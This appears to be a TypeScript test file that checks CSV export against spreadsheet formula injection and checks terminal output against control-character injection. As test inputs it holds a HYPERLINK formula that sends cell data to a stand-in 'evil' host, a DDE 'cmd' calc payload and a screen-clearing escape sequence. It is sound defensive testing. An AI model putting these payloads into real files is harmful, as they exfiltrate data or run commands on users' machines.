import { test } from "node:test";
import assert from "node:assert/strict";
import { neutraliseFormula, restoreFormula } from "../../src/io/csv-formula";
import { renderRows } from "../../src/cli/render-table";

test("cells a spreadsheet would run are written as text, and read back exactly", () => {
  const cases: [string, string][] = [
    ['=HYPERLINK("http://x/?"&A1)', `'=HYPERLINK("http://x/?"&A1)`],
    ["+1", "'+1"], ["-5", "'-5"], ["@SUM(A1)", "'@SUM(A1)"], ["\tx", "'\tx"], ["\rx", "'\rx"],
    ["'=x", "''=x"], ["''+x", "'''+x"],
    ["'abc", "'abc"], ["plain", "plain"], ["", ""], ["a=b", "a=b"], ["'", "'"],
  ];
  for (const [value, cell] of cases) {
    assert.equal(neutraliseFormula(value), cell, value);
    assert.equal(restoreFormula(cell), value, cell);
  }
});

test("summary CSV neutralises string cells, not numbers; the text table shows control characters as escapes", () => {
  const rows = [{ model: "=cmd|' /C calc'!A0", n: -3, rate: 0.25 }, { model: "evil\u001b[2J\nname", n: 4, rate: 0.5 }];
  const csv = renderRows(rows, "csv");
  assert.equal(csv.split("\n")[1], `'=cmd|' /C calc'!A0,-3,0.25`);
  const table = renderRows(rows, "table");
  assert.ok(!table.includes("\u001b") && !table.includes("evil\n"));
  assert.match(table, /evil\\x1b\[2J\\nname/);
});

test("receipt CSV: a response that is a formula is written as text and loads back unchanged", async () => {
  const { fromRecords } = await import("../../src/io");
  const { toCSV, fromCSV } = await import("../../src/io/csv");
  const { readFileSync } = await import("node:fs");
  const { join } = await import("node:path");
  const base = JSON.parse(readFileSync(join(__dirname, "../../data/sample/receipts.jsonl"), "utf8").split("\n")[0]);
  const hostile = ['=HYPERLINK("http://evil/?"&A1,"click")', "+cmd", "@SUM(1)", "'=already quoted", "-1 point"];
  const table = fromRecords(hostile.map((response, i) => ({ ...base, sample_index: i, response, model: i === 0 ? "=evil-model" : base.model })));
  const csv = toCSV(table);
  for (const line of csv.split("\n").slice(1).filter(Boolean)) for (const cell of line.split(",")) assert.doesNotMatch(cell, /^"?[=+\-@]/, cell);
  const back = fromCSV(csv).toRows();
  assert.deepEqual(back.map((r) => r.response), hostile);
  assert.equal(back[0].model, "=evil-model");
});
